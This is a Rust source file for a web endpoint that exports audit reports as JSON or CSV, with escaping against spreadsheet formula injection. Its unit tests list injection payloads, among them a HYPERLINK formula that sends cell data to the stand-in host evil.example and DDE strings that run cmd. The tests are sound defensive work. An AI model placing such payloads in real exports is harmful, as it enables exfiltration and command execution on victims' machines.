//! `GET /api/audit_report?audit=ID&format=json|csv`: an audit's report as a file. The CSV has
//! one row per (sampled item, reviewer decision), with the auditor's decision beside it and
//! the item's flag kinds (the auditor's and the team's, `;`-separated).
use super::AuditReport;
use super::ssr::{AUDIT_ROLES, build_report};
use crate::auth::session::require_in;
use crate::domain::AuditId;
use crate::error::AppError;
use crate::state::AppState;
use crate::ui::attachment;
use axum::body::Body;
use axum::extract::{Query, State};
use axum::response::Response;
use http::{HeaderValue, header};
use serde::Deserialize;
use tower_sessions::Session;

pub use super::REPORT_PATH as PATH;

#[derive(Debug, Deserialize)]
pub struct ReportParams {
    pub audit: AuditId,
    pub format: ReportFormat,
}

#[derive(Debug, Clone, Copy, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum ReportFormat {
    Json,
    Csv,
}

pub async fn report(
    State(state): State<AppState>,
    session: Session,
    Query(params): Query<ReportParams>,
) -> Result<Response, AppError> {
    require_in(&session, &state.pool, &AUDIT_ROLES).await?;
    let report = build_report(&state.pool, params.audit).await?;
    let (body, kind, ext) = match params.format {
        ReportFormat::Json => {
            (serde_json::to_string_pretty(&report).expect("reports serialise") + "\n", "application/json", "json")
        }
        ReportFormat::Csv => (csv(&report), "text/csv; charset=utf-8", "csv"),
    };
    let mut response = Response::new(Body::from(body));
    response.headers_mut().insert(header::CONTENT_TYPE, HeaderValue::from_static(kind));
    let name = format!("audit-{}-{}.{ext}", report.audit.id, report.audit.dataset);
    response.headers_mut().insert(header::CONTENT_DISPOSITION, attachment(&name));
    Ok(response)
}

/// A field quoted as RFC 4180 asks when it needs to be. A text a spreadsheet would run as a
/// formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return: OWASP's list) is
/// written after a `'`, so Excel and LibreOffice show it as text.
pub fn field(s: &str) -> String {
    let s = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{s}") } else { s.to_string() };
    if s.contains([',', '"', '\n', '\r']) { format!("\"{}\"", s.replace('"', "\"\"")) } else { s }
}

pub fn csv(report: &AuditReport) -> String {
    let mut out = String::from(
        "position,item,stratum,question,auditor,reviewer,reviewer_decision,agrees,auditor_flags,team_flags\n",
    );
    let kinds = |ks: &[crate::flag::FlagKind]| ks.iter().map(|k| k.as_str()).collect::<Vec<_>>().join(";");
    for i in &report.items {
        let auditor = i.auditor.map(|v| v.to_string()).unwrap_or_default();
        let (auditor_flags, team_flags) = (kinds(&i.auditor_flags), kinds(&i.team_flags));
        let rows: Vec<(String, String, String)> = if i.reviewers.is_empty() {
            vec![(String::new(), String::new(), String::new())]
        } else {
            i.reviewers
                .iter()
                .map(|(r, v)| {
                    let agrees = i.auditor.map(|a| (a == *v).to_string()).unwrap_or_default();
                    (r.clone(), v.to_string(), agrees)
                })
                .collect()
        };
        for (reviewer, decision, agrees) in rows {
            let cells = [
                i.position.to_string(),
                i.item.to_string(),
                field(&i.stratum),
                field(&i.question),
                field(&auditor),
                field(&reviewer),
                field(&decision),
                agrees,
                auditor_flags.clone(),
                team_flags.clone(),
            ];
            out.push_str(&cells.join(","));
            out.push('\n');
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::field;

    #[test]
    fn formulas_are_written_as_text() {
        let payloads = [
            "=1+1",
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "=cmd|' /C notepad'!'A1'",
            "+SUM(1,2)",
            "-@x",
            "@@@",
            "==x",
        ];
        for p in payloads {
            let cell = field(p);
            let unquoted = cell.strip_prefix('"').unwrap_or(&cell);
            assert!(unquoted.starts_with('\''), "{p:?} became {cell:?}");
        }
        assert_eq!(field("头痛怎么办？"), "头痛怎么办？");
        assert_eq!(field("a,b"), "\"a,b\"");
        assert_eq!(field("1-2"), "1-2", "only a leading sign is a formula");
    }
}
